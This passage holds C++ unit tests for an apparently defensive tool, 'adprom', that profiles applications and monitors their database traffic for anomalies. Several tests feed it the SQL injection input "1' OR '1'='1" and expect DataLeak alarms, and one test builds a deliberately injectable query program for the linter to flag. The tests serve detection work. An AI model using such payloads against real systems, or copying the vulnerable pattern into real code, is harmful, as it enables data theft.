  std::set<size_t> seen(perm.begin(), perm.end());
  EXPECT_EQ(perm.size(), 50u);
  EXPECT_EQ(seen.size(), 50u);
  EXPECT_EQ(*seen.begin(), 0u);
  EXPECT_EQ(*seen.rbegin(), 49u);
}

TEST(RngTest, ForkIsIndependentButDeterministic) {
  Rng a(23);
  Rng b(23);
  Rng fa = a.Fork();
  Rng fb = b.Fork();
  for (int i = 0; i < 10; ++i) {
    EXPECT_EQ(fa.NextU64(), fb.NextU64());
  }
}

}  // namespace
}  // namespace adprom::util
