// End-to-end tests of the adprom CLI library against the shipped sample
// application: analyze, train, trace, score, monitor — including the
// injection run a user is invited to try in the sample's header comment.

#include "tools/cli_lib.h"

#include <gtest/gtest.h>

#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "core/profile.h"
#include "hmm/hmm_model.h"
#include "util/matrix.h"

namespace adprom::cli {
namespace {

// The sample paths are relative to the repository root; tests locate them
// through the compile-time source dir.
#ifndef ADPROM_SOURCE_DIR
#define ADPROM_SOURCE_DIR "."
#endif

std::string Sample(const std::string& name) {
  return std::string(ADPROM_SOURCE_DIR) + "/samples/inventory/" + name;
}

std::string TempPath(const std::string& name) {
  return ::testing::TempDir() + "/" + name;
}

struct CliRun {
  util::Status status;
  std::string output;
};

CliRun RunTool(std::vector<std::string> args) {
  std::ostringstream out;
  const util::Status status = RunCli(args, out);
  return {status, out.str()};
}

TEST(CliTest, UsageErrors) {
  EXPECT_FALSE(RunTool({}).status.ok());
  EXPECT_FALSE(RunTool({"frobnicate"}).status.ok());
  EXPECT_FALSE(RunTool({"analyze"}).status.ok());
  EXPECT_FALSE(RunTool({"train", "x.mini"}).status.ok());
  EXPECT_FALSE(RunTool({"score", "--profile", "p"}).status.ok());
  EXPECT_FALSE(RunTool({"analyze", "/no/such/file.mini"}).status.ok());
}

TEST(CliTest, AnalyzeSample) {
  const CliRun run = RunTool({"analyze", Sample("app.mini")});
  ASSERT_TRUE(run.status.ok()) << run.status.ToString();
  EXPECT_NE(run.output.find("functions: 4"), std::string::npos);
  EXPECT_NE(run.output.find("labeled TD outputs:"), std::string::npos);
  EXPECT_NE(run.output.find("pCTM invariants: hold"), std::string::npos)
      << run.output;
  EXPECT_NE(run.output.find("items"), std::string::npos);  // provenance
}

TEST(CliTest, AnalyzeReportsAbsintRefinement) {
  // The absint demo sample has one dead branch (constant debug flag) and
  // one counted loop; the zero-iteration skip edge of the loop is pruned
  // alongside the dead arm.
  const std::string demo =
      std::string(ADPROM_SOURCE_DIR) + "/samples/absint/demo.mini";
  const CliRun on = RunTool({"analyze", demo});
  ASSERT_TRUE(on.status.ok()) << on.status.ToString();
  EXPECT_NE(on.output.find("absint: pruned 2 infeasible edges, bounded 1 "
                           "loops"),
            std::string::npos)
      << on.output;

  const CliRun off = RunTool({"analyze", demo, "--no-absint"});
  ASSERT_TRUE(off.status.ok()) << off.status.ToString();
  EXPECT_NE(off.output.find("absint: disabled (--no-absint)"),
            std::string::npos)
      << off.output;
}

TEST(CliTest, DumpCfgWritesAnnotatedDotFiles) {
  const std::string demo =
      std::string(ADPROM_SOURCE_DIR) + "/samples/absint/demo.mini";
  const std::string dir = TempPath("cfg_dump");
  const CliRun run = RunTool({"analyze", demo, "--dump-cfg=" + dir});
  ASSERT_TRUE(run.status.ok()) << run.status.ToString();
  EXPECT_NE(run.output.find("CFGs dumped to"), std::string::npos);

  std::ifstream main_dot(dir + "/main.dot");
  ASSERT_TRUE(main_dot.good()) << dir + "/main.dot";
  std::stringstream main_text;
  main_text << main_dot.rdbuf();
  // The dead-branch edge is rendered infeasible; the counted loop's back
  // edge carries its trip count.
  EXPECT_NE(main_text.str().find("infeasible"), std::string::npos)
      << main_text.str();
  EXPECT_NE(main_text.str().find("trips=3"), std::string::npos)
      << main_text.str();

  std::ifstream poll_dot(dir + "/poll.dot");
  EXPECT_TRUE(poll_dot.good()) << dir + "/poll.dot";
}

TEST(CliTest, FullPipelineTrainTraceScoreMonitor) {
  const std::string profile_path = TempPath("inventory.profile");
  const std::string trace_path = TempPath("benign.trace");

  // Train.
  CliRun train = RunTool({"train", Sample("app.mini"), "--db",
                      Sample("seed.sql"), "--cases", Sample("cases.txt"),
                      "--out", profile_path});
  ASSERT_TRUE(train.status.ok()) << train.status.ToString();
  EXPECT_NE(train.output.find("profile written"), std::string::npos);

  // Trace a benign run.
  CliRun trace = RunTool({"trace", Sample("app.mini"), "--db",
                      Sample("seed.sql"), "--input", "find,3", "--out",
                      trace_path});
  ASSERT_TRUE(trace.status.ok()) << trace.status.ToString();
  EXPECT_NE(trace.output.find("collected"), std::string::npos);

  // Score the stored trace: quiet.
  CliRun score = RunTool({"score", "--profile", profile_path, "--trace",
                      trace_path});
  ASSERT_TRUE(score.status.ok()) << score.status.ToString();
  EXPECT_NE(score.output.find("alarms: 0"), std::string::npos)
      << score.output;

  // Live monitoring of a benign session: quiet.
  CliRun benign = RunTool({"monitor", Sample("app.mini"), "--db",
                       Sample("seed.sql"), "--profile", profile_path,
                       "--input", "list"});
  ASSERT_TRUE(benign.status.ok()) << benign.status.ToString();
  EXPECT_NE(benign.output.find("alarms: 0"), std::string::npos);

  // The injection session from the sample's header comment: alarms, with
  // the items table named as the source.
  CliRun attack = RunTool({"monitor", Sample("app.mini"), "--db",
                       Sample("seed.sql"), "--profile", profile_path,
                       "--input", "find,1' OR '1'='1"});
  ASSERT_TRUE(attack.status.ok()) << attack.status.ToString();
  EXPECT_EQ(attack.output.find("alarms: 0"), std::string::npos)
      << attack.output;
  EXPECT_NE(attack.output.find("DataLeak"), std::string::npos)
      << attack.output;
  EXPECT_NE(attack.output.find("items"), std::string::npos);

  std::remove(profile_path.c_str());
  std::remove(trace_path.c_str());
}

TEST(CliTest, TrainFlagsApply) {
  const std::string profile_path = TempPath("flags.profile");
  CliRun train = RunTool({"train", Sample("app.mini"), "--db",
                      Sample("seed.sql"), "--cases", Sample("cases.txt"),
                      "--out", profile_path, "--window", "10",
                      "--signatures", "--seed", "7"});
  ASSERT_TRUE(train.status.ok()) << train.status.ToString();
  auto text = ReadFileToString(profile_path);
  ASSERT_TRUE(text.ok());
  EXPECT_NE(text->find("window_length 10"), std::string::npos);
  EXPECT_NE(text->find("use_query_signatures 1"), std::string::npos);
  std::remove(profile_path.c_str());

  EXPECT_FALSE(RunTool({"train", Sample("app.mini"), "--db", Sample("seed.sql"),
                    "--cases", Sample("cases.txt"), "--out", profile_path,
                    "--window", "1"})
                   .status.ok());
}

TEST(CliTest, SeedValidationFailsEarly) {
  const std::string bad_seed = TempPath("bad.sql");
  ASSERT_TRUE(WriteStringToFile(bad_seed, "CREATE GARBAGE\n").ok());
  CliRun run = RunTool({"trace", Sample("app.mini"), "--db", bad_seed,
                    "--input", "list", "--out", TempPath("x.trace")});
  EXPECT_FALSE(run.status.ok());
  std::remove(bad_seed.c_str());
}

TEST(CliTest, AnalyzeReportsTaintLabeler) {
  CliRun fs = RunTool({"analyze", Sample("app.mini")});
  ASSERT_TRUE(fs.status.ok()) << fs.status.ToString();
  EXPECT_NE(fs.output.find("flow-sensitive"), std::string::npos);

  CliRun fi = RunTool({"analyze", Sample("app.mini"), "--flow-insensitive"});
  ASSERT_TRUE(fi.status.ok()) << fi.status.ToString();
  EXPECT_NE(fi.output.find("flow-insensitive"), std::string::npos);
}


/// A hand-built window-3 profile over {print, scan}: lets the serve tests
/// run without a training phase.
std::string WriteTinyProfile(const std::string& name) {
  core::ApplicationProfile profile;
  profile.options.window_length = 3;
  profile.options.use_dd_labels = false;
  profile.alphabet.Intern("print");
  profile.alphabet.Intern("scan");
  profile.model = hmm::HmmModel(
      util::Matrix::FromRows({{0.75, 0.25}, {0.5, 0.5}}),
      util::Matrix::FromRows({{0.25, 0.5, 0.25}, {0.5, 0.25, 0.25}}),
      {0.5, 0.5});
  profile.threshold = -100.0;
  profile.context_pairs.insert({"main", "print"});
  profile.context_pairs.insert({"main", "scan"});
  const std::string path = TempPath(name);
  EXPECT_TRUE(WriteStringToFile(path, profile.Serialize()).ok());
  return path;
}

/// The first number right after `key` in `text`.
size_t NumberAfter(const std::string& text, const std::string& key) {
  const size_t pos = text.find(key);
  EXPECT_NE(pos, std::string::npos) << key << " not in: " << text;
  if (pos == std::string::npos) return 0;
  return std::strtoul(text.c_str() + pos + key.size(), nullptr, 10);
}

/// The line of `text` containing `needle` (empty if absent).
std::string LineContaining(const std::string& text,
                           const std::string& needle) {
  size_t pos = text.find(needle);
  if (pos == std::string::npos) return "";
  const size_t begin = text.rfind('\n', pos) + 1;
  const size_t end = text.find('\n', pos);
  return text.substr(begin, end - begin);
}

TEST(CliServeTest, TraceReplayMatchesScoreVerdictCounts) {
  const std::string profile_path = TempPath("serve.profile");
  const std::string benign_path = TempPath("serve_benign.trace");
  const std::string attack_path = TempPath("serve_attack.trace");

  ASSERT_TRUE(RunTool({"train", Sample("app.mini"), "--db",
                       Sample("seed.sql"), "--cases", Sample("cases.txt"),
                       "--out", profile_path})
                  .status.ok());
  ASSERT_TRUE(RunTool({"trace", Sample("app.mini"), "--db",
                       Sample("seed.sql"), "--input", "find,3", "--out",
                       benign_path})
                  .status.ok());
  ASSERT_TRUE(RunTool({"trace", Sample("app.mini"), "--db",
                       Sample("seed.sql"), "--input", "find,1' OR '1'='1",
                       "--out", attack_path})
                  .status.ok());

  const CliRun benign_score =
      RunTool({"score", "--profile", profile_path, "--trace", benign_path});
  const CliRun attack_score =
      RunTool({"score", "--profile", profile_path, "--trace", attack_path});
  ASSERT_TRUE(benign_score.status.ok());
  ASSERT_TRUE(attack_score.status.ok());

  const CliRun serve = RunTool({"serve", "--profile", profile_path,
                                "--trace", benign_path + "," + attack_path,
                                "--threads", "2"});
  ASSERT_TRUE(serve.status.ok()) << serve.status.ToString();

  // Per-session close summaries must agree with batch `score` on the same
  // files: same window and alarm counts, nothing dropped.
  const std::string benign_line =
      LineContaining(serve.output, benign_path + " closed:");
  ASSERT_FALSE(benign_line.empty()) << serve.output;
  EXPECT_EQ(NumberAfter(benign_line, "windows "),
            NumberAfter(benign_score.output, "windows: "));
  EXPECT_EQ(NumberAfter(benign_line, "alarms "),
            NumberAfter(benign_score.output, "alarms: "));

  const std::string attack_line =
      LineContaining(serve.output, attack_path + " closed:");
  ASSERT_FALSE(attack_line.empty()) << serve.output;
  EXPECT_EQ(NumberAfter(attack_line, "windows "),
            NumberAfter(attack_score.output, "windows: "));
  // `score` stops counting alarms once it suppresses printing at 10, so
  // its count is a floor, not a total.
  EXPECT_GE(NumberAfter(attack_line, "alarms "),
            NumberAfter(attack_score.output, "alarms: "));
  EXPECT_GT(NumberAfter(attack_line, "alarms "), 0u);

  // The injection alarms stream out as they fire, with provenance.
  EXPECT_NE(serve.output.find("DataLeak"), std::string::npos)
      << serve.output;
  EXPECT_NE(serve.output.find("items"), std::string::npos);
  EXPECT_NE(serve.output.find("dropped 0"), std::string::npos);
  EXPECT_NE(serve.output.find("served "), std::string::npos);

  std::remove(profile_path.c_str());
  std::remove(benign_path.c_str());
  std::remove(attack_path.c_str());
}

TEST(CliServeTest, FramedFeedMultiplexesSessions) {
  const std::string profile_path = WriteTinyProfile("tiny.profile");
  const std::string feed_path = TempPath("events.feed");

  // Two interleaved sessions; "a" is ended early by the !end directive,
  // "b" is closed by EOF. Comments and blank lines are ignored.
  std::string feed = "# streaming feed\n\n";
  for (int i = 0; i < 5; ++i) {
    const std::string event = (i % 2 == 0 ? "print" : "scan") +
                              std::string("\tmain\t") + std::to_string(i) +
                              "\t1\t0\t\t";
    feed += "a\t" + event + "\n";
    feed += "b\t" + event + "\n";
  }
  feed += "!end\ta\n";
  feed += "b\tprint\tmain\t9\t1\t0\t\t\n";
  ASSERT_TRUE(WriteStringToFile(feed_path, feed).ok());

  const CliRun serve = RunTool({"serve", "--profile", profile_path,
                                "--events", feed_path, "--format", "text",
                                "--all"});
  ASSERT_TRUE(serve.status.ok()) << serve.status.ToString();
  // --all prints every verdict; window 3 over 5/6 events = 3/4 windows.
  EXPECT_NE(serve.output.find("a window 0: Normal"), std::string::npos)
      << serve.output;
  EXPECT_NE(serve.output.find("b window 3: Normal"), std::string::npos)
      << serve.output;
  EXPECT_EQ(NumberAfter(LineContaining(serve.output, "a closed:"),
                        "windows "),
            3u);
  EXPECT_EQ(NumberAfter(LineContaining(serve.output, "b closed:"),
                        "windows "),
            4u);
  EXPECT_NE(serve.output.find("served 11 events, dropped 0"),
            std::string::npos)
      << serve.output;

  std::remove(profile_path.c_str());
  std::remove(feed_path.c_str());
}

TEST(CliServeTest, UsageAndFlagValidation) {
  EXPECT_FALSE(RunTool({"serve"}).status.ok());
  EXPECT_FALSE(RunTool({"serve", "--profile", "/no/such.profile"})
                   .status.ok());

  const std::string profile_path = WriteTinyProfile("tiny2.profile");
  EXPECT_FALSE(RunTool({"serve", "--profile", profile_path, "--policy",
                        "bogus"})
                   .status.ok());
  EXPECT_FALSE(RunTool({"serve", "--profile", profile_path, "--queue",
                        "0"})
                   .status.ok());
  EXPECT_FALSE(RunTool({"serve", "--profile", profile_path, "--threads",
                        "x"})
                   .status.ok());
  EXPECT_FALSE(RunTool({"serve", "--profile", profile_path, "--events",
                        "/no/such.feed"})
                   .status.ok());

  // Fleet-mode flag validation: profile sources are mutually exclusive,
  // shard counts and formats are checked, trace replay is single-tenant.
  EXPECT_FALSE(RunTool({"serve", "--profile", profile_path,
                        "--profiles-dir", "/tmp"})
                   .status.ok());
  EXPECT_FALSE(RunTool({"serve", "--profile", profile_path, "--shards",
                        "0"})
                   .status.ok());
  EXPECT_FALSE(RunTool({"serve", "--profile", profile_path, "--format",
                        "xml"})
                   .status.ok());
  EXPECT_FALSE(RunTool({"serve", "--profiles-dir", "/no/such/dir"})
                   .status.ok());

  // A malformed text feed line names its position.
  const std::string feed_path = TempPath("bad.feed");
  ASSERT_TRUE(WriteStringToFile(feed_path, "no-tab-here\n").ok());
  const CliRun bad = RunTool({"serve", "--profile", profile_path,
                              "--events", feed_path, "--format", "text"});
  EXPECT_FALSE(bad.status.ok());
  EXPECT_NE(bad.status.ToString().find("line 1"), std::string::npos);

  // The same feed under the default binary format fails closed at frame 0
  // (text is not a valid ADPF stream).
  const CliRun not_binary = RunTool({"serve", "--profile", profile_path,
                                     "--events", feed_path});
  EXPECT_FALSE(not_binary.status.ok());
  EXPECT_NE(not_binary.status.ToString().find("bad magic"),
            std::string::npos)
      << not_binary.status.ToString();

  std::remove(profile_path.c_str());
  std::remove(feed_path.c_str());
}

TEST(CliServeTest, BinaryFeedMatchesTextFeedBitForBit) {
  const std::string profile_path = WriteTinyProfile("wire.profile");
  const std::string feed_path = TempPath("wire.feed");
  const std::string bin_path = TempPath("wire.bin");

  // Sessions are fed sequentially and closed explicitly so the verdict
  // stream has one deterministic order for the byte-exact comparison.
  std::string feed;
  for (const char* session : {"a", "b"}) {
    for (int i = 0; i < 7; ++i) {
      feed += std::string(session) + "\t" +
              (i % 2 == 0 ? "print" : "scan") + "\tmain\t" +
              std::to_string(i) + "\t1\t0\t\t\n";
    }
    feed += std::string("!end\t") + session + "\n";
  }
  ASSERT_TRUE(WriteStringToFile(feed_path, feed).ok());

  const CliRun frame =
      RunTool({"frame", "--events", feed_path, "--out", bin_path});
  ASSERT_TRUE(frame.status.ok()) << frame.status.ToString();
  EXPECT_NE(frame.output.find("framed 14 events, 2 end markers"),
            std::string::npos)
      << frame.output;

  const CliRun text = RunTool({"serve", "--profile", profile_path,
                               "--events", feed_path, "--format", "text",
                               "--all"});
  const CliRun binary = RunTool({"serve", "--profile", profile_path,
                                 "--events", bin_path, "--format",
                                 "binary", "--all"});
  ASSERT_TRUE(text.status.ok()) << text.status.ToString();
  ASSERT_TRUE(binary.status.ok()) << binary.status.ToString();
  // The wire format must not change a single verdict, summary, or count.
  EXPECT_EQ(text.output, binary.output);

  std::remove(profile_path.c_str());
  std::remove(feed_path.c_str());
  std::remove(bin_path.c_str());
}

TEST(CliServeTest, MultiTenantServeQualifiesSessionsAndPrintsMetrics) {
  // Two tenants from a profiles directory, one session each, sharded 4
  // ways; sink ids are tenant-qualified and --metrics reports both
  // tenants at generation 1.
  const std::string dir = ::testing::TempDir() + "/serve_profiles";
  std::filesystem::create_directories(dir);
  const std::string t1 = WriteTinyProfile("t1.profile");
  std::filesystem::copy_file(
      t1, dir + "/billing.profile",
      std::filesystem::copy_options::overwrite_existing);
  std::filesystem::copy_file(
      t1, dir + "/crm.profile",
      std::filesystem::copy_options::overwrite_existing);

  std::string feed;
  for (int i = 0; i < 4; ++i) {
    const std::string event = (i % 2 == 0 ? "print" : "scan") +
                              std::string("\tmain\t") + std::to_string(i) +
                              "\t1\t0\t\t";
    feed += "billing\ts1\t" + event + "\n";
    feed += "crm\ts1\t" + event + "\n";
  }
  feed += "!end\tbilling\ts1\n";
  const std::string feed_path = TempPath("tenants.feed");
  ASSERT_TRUE(WriteStringToFile(feed_path, feed).ok());

  const CliRun serve = RunTool({"serve", "--profiles-dir", dir, "--events",
                                feed_path, "--format", "text", "--shards",
                                "4", "--metrics", "--all"});
  ASSERT_TRUE(serve.status.ok()) << serve.status.ToString();
  EXPECT_NE(serve.output.find("billing/s1 window 0:"), std::string::npos)
      << serve.output;
  EXPECT_NE(serve.output.find("crm/s1 window 0:"), std::string::npos);
  EXPECT_NE(serve.output.find("billing/s1 closed:"), std::string::npos);
  EXPECT_NE(serve.output.find("served 8 events, dropped 0"),
            std::string::npos)
      << serve.output;
  EXPECT_NE(serve.output.find("metrics: fleet: 8 events"),
            std::string::npos)
      << serve.output;
  EXPECT_NE(serve.output.find("metrics: shard 3:"), std::string::npos)
      << serve.output;
  EXPECT_NE(serve.output.find("metrics: tenant billing: generation 1"),
            std::string::npos)
      << serve.output;
  EXPECT_NE(serve.output.find("metrics: tenant crm: generation 1"),
            std::string::npos)
      << serve.output;

  // An event for a tenant with no profile fails closed.
  ASSERT_TRUE(WriteStringToFile(
                  feed_path, "ghost\ts1\tprint\tmain\t0\t1\t0\t\t\n")
                  .ok());
  const CliRun ghost = RunTool({"serve", "--profiles-dir", dir, "--events",
                                feed_path, "--format", "text"});
  EXPECT_FALSE(ghost.status.ok());
  EXPECT_NE(ghost.status.ToString().find("ghost"), std::string::npos);

  std::remove(t1.c_str());
  std::remove(feed_path.c_str());
  std::filesystem::remove_all(dir);
}

TEST(CliFrameTest, UsageAndValidationErrors) {
  EXPECT_FALSE(RunTool({"frame"}).status.ok());
  EXPECT_FALSE(RunTool({"frame", "--events", "/no/such.feed", "--out",
                        TempPath("x.bin")})
                   .status.ok());
  const std::string feed_path = TempPath("badframe.feed");
  ASSERT_TRUE(WriteStringToFile(feed_path, "s\tnot-an-event\n").ok());
  const CliRun bad = RunTool(
      {"frame", "--events", feed_path, "--out", TempPath("x.bin")});
  EXPECT_FALSE(bad.status.ok());
  EXPECT_NE(bad.status.ToString().find("line 1"), std::string::npos);
  std::remove(feed_path.c_str());
}

TEST(CliInfoTest, PrintsProfileSummary) {
  const std::string profile_path = WriteTinyProfile("info.profile");
  const CliRun info = RunTool({"info", profile_path});
  ASSERT_TRUE(info.status.ok()) << info.status.ToString();
  EXPECT_NE(info.output.find("window length: 3"), std::string::npos)
      << info.output;
  EXPECT_NE(info.output.find("labels: call-names"), std::string::npos);
  EXPECT_NE(info.output.find("states: 2"), std::string::npos);
  EXPECT_NE(info.output.find("serialized size: "), std::string::npos);
  EXPECT_NE(info.output.find("context pairs: 2"), std::string::npos);
  // The tiny profile's matrices are fully dense.
  EXPECT_NE(
      info.output.find("transition matrix: 2x2, nnz 4 (100.0% dense)"),
      std::string::npos)
      << info.output;
  EXPECT_NE(
      info.output.find("emission matrix: 2x3, nnz 6 (100.0% dense)"),
      std::string::npos)
      << info.output;
  EXPECT_NE(
      info.output.find(
          "quantized triage tables: "),
      std::string::npos)
      << info.output;
  EXPECT_NE(info.output.find("scale 2^10 = 1024"), std::string::npos)
      << info.output;
  EXPECT_NE(info.output.find("simd dispatch: "), std::string::npos)
      << info.output;
  std::remove(profile_path.c_str());
}

TEST(CliInfoTest, ReportsTransitionSparsity) {
  // A profile with structural zeros in A: info must count only the stored
  // nonzeros.
  core::ApplicationProfile profile;
  profile.options.window_length = 3;
  profile.alphabet.Intern("print");
  profile.alphabet.Intern("scan");
  profile.model = hmm::HmmModel(
      util::Matrix::FromRows({{0.0, 1.0}, {0.5, 0.5}}),
      util::Matrix::FromRows({{0.25, 0.5, 0.25}, {0.5, 0.25, 0.25}}),
      {0.5, 0.5});
  profile.threshold = -10.0;
  const std::string profile_path = TempPath("sparse_info.profile");
  ASSERT_TRUE(WriteStringToFile(profile_path, profile.Serialize()).ok());

  const CliRun info = RunTool({"info", profile_path});
  ASSERT_TRUE(info.status.ok()) << info.status.ToString();
  EXPECT_NE(
      info.output.find("transition matrix: 2x2, nnz 3 (75.0% dense)"),
      std::string::npos)
      << info.output;
  std::remove(profile_path.c_str());
}

TEST(CliInfoTest, UsageErrors) {
  EXPECT_FALSE(RunTool({"info"}).status.ok());
  EXPECT_FALSE(RunTool({"info", "/no/such.profile"}).status.ok());
  EXPECT_FALSE(RunTool({"info", "a.profile", "b.profile"}).status.ok());
}

TEST(CliTest, DenseKernelsFlagReproducesDefaultTraining) {
  const std::string sparse_path = TempPath("kernels_sparse.profile");
  const std::string dense_path = TempPath("kernels_dense.profile");
  const std::string trace_path = TempPath("kernels.trace");

  ASSERT_TRUE(RunTool({"train", Sample("app.mini"), "--db",
                       Sample("seed.sql"), "--cases", Sample("cases.txt"),
                       "--out", sparse_path})
                  .status.ok());
  ASSERT_TRUE(RunTool({"train", Sample("app.mini"), "--db",
                       Sample("seed.sql"), "--cases", Sample("cases.txt"),
                       "--out", dense_path, "--dense-kernels"})
                  .status.ok());
  // The ablation flag must not change the trained profile by a single
  // byte — the CSR kernels are bit-identical to the dense ones.
  auto sparse_text = ReadFileToString(sparse_path);
  auto dense_text = ReadFileToString(dense_path);
  ASSERT_TRUE(sparse_text.ok());
  ASSERT_TRUE(dense_text.ok());
  EXPECT_EQ(*sparse_text, *dense_text);

  // Scoring a stored trace with either kernel prints the same report.
  ASSERT_TRUE(RunTool({"trace", Sample("app.mini"), "--db",
                       Sample("seed.sql"), "--input", "find,3", "--out",
                       trace_path})
                  .status.ok());
  const CliRun sparse_score = RunTool(
      {"score", "--profile", sparse_path, "--trace", trace_path});
  const CliRun dense_score =
      RunTool({"score", "--profile", sparse_path, "--trace", trace_path,
               "--dense-kernels"});
  ASSERT_TRUE(sparse_score.status.ok()) << sparse_score.status.ToString();
  ASSERT_TRUE(dense_score.status.ok()) << dense_score.status.ToString();
  EXPECT_EQ(sparse_score.output, dense_score.output);

  std::remove(sparse_path.c_str());
  std::remove(dense_path.c_str());
  std::remove(trace_path.c_str());
}

int RunMain(std::vector<std::string> args, std::string* out_text,
            std::string* err_text) {
  std::ostringstream out, err;
  const int code = RunCliMain(args, out, err);
  if (out_text != nullptr) *out_text = out.str();
  if (err_text != nullptr) *err_text = err.str();
  return code;
}

TEST(CliLintTest, CleanSampleExitsZero) {
  std::string out;
  const int code = RunMain({"lint", Sample("app.mini")}, &out, nullptr);
  EXPECT_EQ(code, 0) << out;
  EXPECT_NE(out.find("0 findings across"), std::string::npos) << out;
}

TEST(CliLintTest, InjectionFindingExitsOneWithFileLine) {
  const std::string app = TempPath("vuln.mini");
  ASSERT_TRUE(WriteStringToFile(app, R"(fn main() {
  var needle = scan();
  var q = "SELECT * FROM t WHERE name = '";
  q = q + needle;
  q = q + "'";
  var r = db_query(q);
  print(r);
}
)")
                  .ok());
  std::string out;
  const int code = RunMain({"lint", app}, &out, nullptr);
  EXPECT_EQ(code, 1) << out;
  EXPECT_NE(out.find(app + ":6:"), std::string::npos) << out;
  EXPECT_NE(out.find("[sql-injection]"), std::string::npos) << out;
  std::remove(app.c_str());
}

TEST(CliLintTest, ErrorsExitTwoOnStderr) {
  std::string out, err;
  EXPECT_EQ(RunMain({"lint", "/no/such/file.mini"}, &out, &err), 2);
  EXPECT_FALSE(err.empty());
  EXPECT_EQ(RunMain({"lint"}, &out, &err), 2);

  // A syntactically invalid program is an error, not a finding.
  const std::string bad = TempPath("bad.mini");
  ASSERT_TRUE(WriteStringToFile(bad, "fn main( {}\n").ok());
  EXPECT_EQ(RunMain({"lint", bad}, &out, &err), 2);
  std::remove(bad.c_str());
}

std::string WitnessSample(const std::string& name) {
  return std::string(ADPROM_SOURCE_DIR) + "/samples/witness/" + name;
}

TEST(CliLintTest, WitnessDemoPrunesFindingsAndExplains) {
  // The demo's would-be exfil findings are provably infeasible: exit 0,
  // and --witnesses renders the pruned paths with the refuted branch.
  std::string out;
  const int code = RunMain(
      {"lint", WitnessSample("leak.mini"), "--db", WitnessSample("seed.sql"),
       "--monitored-sinks=print,print_err", "--witnesses"},
      &out, nullptr);
  EXPECT_EQ(code, 0) << out;
  EXPECT_NE(out.find("0 findings across"), std::string::npos) << out;
  EXPECT_NE(out.find("[infeasible]"), std::string::npos) << out;
  EXPECT_NE(out.find("pruned: line 24 refutes (mode > 0)"),
            std::string::npos)
      << out;
  EXPECT_NE(out.find("columns: patients.name patients.ssn"),
            std::string::npos)
      << out;
}

TEST(CliLintTest, JsonFormatHasStableFieldOrder) {
  std::string out;
  const int code = RunMain(
      {"lint", WitnessSample("leak.mini"), "--db", WitnessSample("seed.sql"),
       "--monitored-sinks=print,print_err", "--witnesses", "--format=json"},
      &out, nullptr);
  EXPECT_EQ(code, 0) << out;
  const size_t file_pos = out.find("\"file\"");
  const size_t findings_pos = out.find("\"findings\"");
  const size_t witnesses_pos = out.find("\"witnesses\"");
  const size_t checked_pos = out.find("\"functions_checked\"");
  ASSERT_NE(file_pos, std::string::npos) << out;
  ASSERT_NE(findings_pos, std::string::npos) << out;
  ASSERT_NE(witnesses_pos, std::string::npos) << out;
  ASSERT_NE(checked_pos, std::string::npos) << out;
  EXPECT_LT(file_pos, findings_pos);
  EXPECT_LT(findings_pos, witnesses_pos);
  EXPECT_LT(witnesses_pos, checked_pos);
  EXPECT_NE(out.find("\"pruned_condition\": \"(mode > 0)\""),
            std::string::npos)
      << out;
}

TEST(CliLintTest, DumpWitnessWritesDotFiles) {
  const std::string dir = TempPath("witness_dots");
  std::string out;
  const int code = RunMain(
      {"lint", WitnessSample("leak.mini"),
       "--monitored-sinks=print,print_err", "--dump-witness=" + dir},
      &out, nullptr);
  EXPECT_EQ(code, 0) << out;
  EXPECT_NE(out.find("witnesses dumped to"), std::string::npos) << out;
  std::ifstream dot(dir + "/witness-0.dot");
  ASSERT_TRUE(dot.good());
  std::ostringstream buf;
  buf << dot.rdbuf();
  EXPECT_EQ(buf.str().rfind("digraph witness {", 0), 0u) << buf.str();
  EXPECT_NE(buf.str().find("REFUTED"), std::string::npos) << buf.str();
}

TEST(CliAnalyzeTest, ColumnTaintShowsColumnsAndAblationHidesThem) {
  const CliRun with_columns =
      RunTool({"analyze", Sample("app.mini"), "--db", Sample("seed.sql")});
  ASSERT_TRUE(with_columns.status.ok()) << with_columns.status.ToString();
  // SELECT * expands through the seed's CREATE TABLE schema.
  EXPECT_NE(with_columns.output.find(
                "[columns: items.id items.name items.price]"),
            std::string::npos)
      << with_columns.output;

  const CliRun ablated = RunTool({"analyze", Sample("app.mini"), "--db",
                                  Sample("seed.sql"), "--no-column-taint"});
  ASSERT_TRUE(ablated.status.ok()) << ablated.status.ToString();
  EXPECT_EQ(ablated.output.find("[columns:"), std::string::npos)
      << ablated.output;
  // Everything else is identical — columns are strictly additive.
  EXPECT_NE(ablated.output.find("labeled TD outputs: 2"), std::string::npos)
      << ablated.output;
}

TEST(CliLintTest, NonLintCommandsKeepBinaryExitCodes) {
  std::string out, err;
  EXPECT_EQ(RunMain({"analyze", Sample("app.mini")}, &out, &err), 0);
  EXPECT_EQ(RunMain({"analyze", "/no/such/file.mini"}, &out, &err), 1);
  EXPECT_FALSE(err.empty());
}

TEST(ParseSqlSeedTest, SkipsCommentsAndBlanks) {
  const auto statements =
      ParseSqlSeed("# comment\n\nCREATE TABLE t (a INT)\n  \nINSERT INTO t"
                   " VALUES (1)\n");
  ASSERT_EQ(statements.size(), 2u);
  EXPECT_EQ(statements[0], "CREATE TABLE t (a INT)");
}

}  // namespace
}  // namespace adprom::cli
