// End-to-end tests of the adprom CLI library against the shipped sample
// application: analyze, train, trace, score, monitor — including the
// injection run a user is invited to try in the sample's header comment.

#include "tools/cli_lib.h"

#include <gtest/gtest.h>

#include <cstdio>
#include <fstream>
#include <sstream>

namespace adprom::cli {
namespace {

// The sample paths are relative to the repository root; tests locate them
// through the compile-time source dir.
#ifndef ADPROM_SOURCE_DIR
#define ADPROM_SOURCE_DIR "."
#endif

std::string Sample(const std::string& name) {
  return std::string(ADPROM_SOURCE_DIR) + "/samples/inventory/" + name;
}

std::string TempPath(const std::string& name) {
  return ::testing::TempDir() + "/" + name;
}

struct CliRun {
  util::Status status;
  std::string output;
};

CliRun RunTool(std::vector<std::string> args) {
  std::ostringstream out;
  const util::Status status = RunCli(args, out);
  return {status, out.str()};
}

TEST(CliTest, UsageErrors) {
  EXPECT_FALSE(RunTool({}).status.ok());
  EXPECT_FALSE(RunTool({"frobnicate"}).status.ok());
  EXPECT_FALSE(RunTool({"analyze"}).status.ok());
  EXPECT_FALSE(RunTool({"train", "x.mini"}).status.ok());
  EXPECT_FALSE(RunTool({"score", "--profile", "p"}).status.ok());
  EXPECT_FALSE(RunTool({"analyze", "/no/such/file.mini"}).status.ok());
}

TEST(CliTest, AnalyzeSample) {
  const CliRun run = RunTool({"analyze", Sample("app.mini")});
  ASSERT_TRUE(run.status.ok()) << run.status.ToString();
